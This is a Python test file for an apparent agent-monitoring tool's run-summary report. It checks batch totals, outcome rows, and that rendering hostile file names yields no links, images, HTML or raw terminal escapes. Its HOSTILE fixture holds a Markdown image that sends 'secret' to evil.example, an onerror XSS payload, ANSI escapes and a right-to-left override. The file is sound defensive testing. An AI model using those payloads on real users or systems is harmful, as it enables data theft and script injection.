"""The run summary: totals from whatever the steps returned, and hostile file names kept inert."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from markdown_it import MarkdownIt

from agentwatch.detectors.detect.run import DetectRun
from agentwatch.detectors.escalate.run import EscalationRun
from agentwatch.flows.context import build_context
from agentwatch.flows.pipeline import DirectRunner, PipelineStage, RunSummary, StepResult, run_pipeline
from agentwatch.flows.report import code_span, outcome_rows, render_markdown, render_text, summary_rows
from agentwatch.flows.stages import EscalationSkipped, StageSkipped
from agentwatch.flows.steps import FileFailure, IngestSummary
from tests.flows.flow_support import corrupt_gz, flow_settings, session_file

HOSTILE = "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> `tick` | pipe \x1b[31mred\u202e"


@dataclass(frozen=True)
class DetectLike:
    sessions_flagged: int
    alerts_raised: int
    flagged: tuple[str, ...]
    entry: dict


def summary_with(*steps: StepResult) -> RunSummary:
    return RunSummary("nightly", "/lake", datetime(2026, 11, 23, 2, tzinfo=UTC), 1.5, 0.0, steps)


def ingest(**fields) -> IngestSummary:
    base = dict(files=2, ingested=1, already_in_lake=0, failed=1, records_read=10, events_written=9, duplicates=0,
                quarantined=1, redactions=0, spool_files_taken=0, batch_id="b1")
    return IngestSummary(**{**base, **fields})


def tokens(markdown: str) -> list[str]:
    parser = MarkdownIt("commonmark").enable("table")
    out = []
    for token in parser.parse(markdown):
        out.append(token.type)
        out.extend(child.type for child in token.children or ())
    return out


def test_totals_sum_the_batches_and_list_every_scalar_of_later_stages() -> None:
    rows = dict(summary_rows(summary_with(
        StepResult("ingest", "ingest 1/2", 1.0, ingest()),
        StepResult("ingest", "ingest 2/2", 1.0, ingest(events_written=5, failed=0)),
        StepResult("detect", "detect /lake", 0.5, DetectLike(3, 2, ("s1", "s2", "s3"), {"seq": 4})),
    )))
    assert rows["events written"] == 14 and rows["files failed (not ingested, reason below)"] == 1
    assert (rows["detect: sessions_flagged"], rows["detect: alerts_raised"], rows["detect: count flagged"]) == (3, 2, 3)
    assert not any("entry" in label for label in rows)


def test_the_outcome_says_sessions_flagged_alerts_raised_and_escalations_or_why_a_stage_skipped() -> None:
    detect = DetectRun(count_rules=36, count_sessions=90, count_findings=12, count_flagged=4, count_alerts=6,
                       count_new_alerts=2, count_suppressed=1, entry={})
    escalate = EscalationRun(count_alerts=6, count_due=3, count_ok=2, count_failed=0, count_gave_up=1,
                             count_already_settled=4, count_attempts=5)
    ran = summary_with(StepResult("detect", "detect /lake", 0.5, detect), StepResult("escalate", "e", 0.1, escalate))
    assert outcome_rows(ran) == [("sessions flagged", 4), ("alerts raised (new)", 2), ("escalations sent", 2),
                                 ("escalations failed", 1)]
    skipped = summary_with(StepResult("detect", "detect /lake", 0.0, StageSkipped()),
                           StepResult("escalate", "e", 0.0, EscalationSkipped()))
    rows = dict(outcome_rows(skipped))
    assert rows["sessions flagged"].startswith("up to date") and rows["escalations"].startswith("none configured")
    assert outcome_rows(summary_with(StepResult("ingest", "ingest 1/1", 1.0, ingest()))) == []


def test_hostile_file_names_form_no_link_image_or_html_in_the_artifact() -> None:
    failure = FileFailure(f"/logs/{HOSTILE}.jsonl", f"cannot read {HOSTILE}")
    markdown = render_markdown(summary_with(
        StepResult("ingest", f"ingest 1/1: {HOSTILE}", 1.0, ingest(failures=(failure,))),
        StepResult("detect", f"detect {HOSTILE}", 0.1, error=f"boom {HOSTILE}"),
    ))
    kinds = tokens(markdown)
    assert "code_inline" in kinds and "table_open" in kinds
    assert not {"link_open", "image", "html_inline", "html_block"} & set(kinds)
    assert "\x1b" not in markdown and "\u202e" not in markdown
    assert "\\u001b[31mred\\u202e" in markdown


def test_code_span_fences_past_backticks_in_the_text() -> None:
    assert code_span("a `b` c") == "`` a `b` c ``"
    assert code_span("x ``` y") == "```` x ``` y ````"
    assert code_span("\x07") == "` \\u0007 `"


def test_text_summary_is_inert(lake: Path, tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    session_file(logs / "ok.jsonl", "ok")
    corrupt_gz(logs / "\x1b[2Jcut.jsonl.gz")
    summary = run_pipeline(build_context(flow_settings(lake, sources=[str(logs)])), DirectRunner(),
                           stages=(PipelineStage("count", lambda ctx: 7),))
    text = render_text(summary)
    assert "\x1b" not in text
    assert "failed file" in text and "\\u001b[2Jcut.jsonl.gz" in text
    assert "count: result" in text
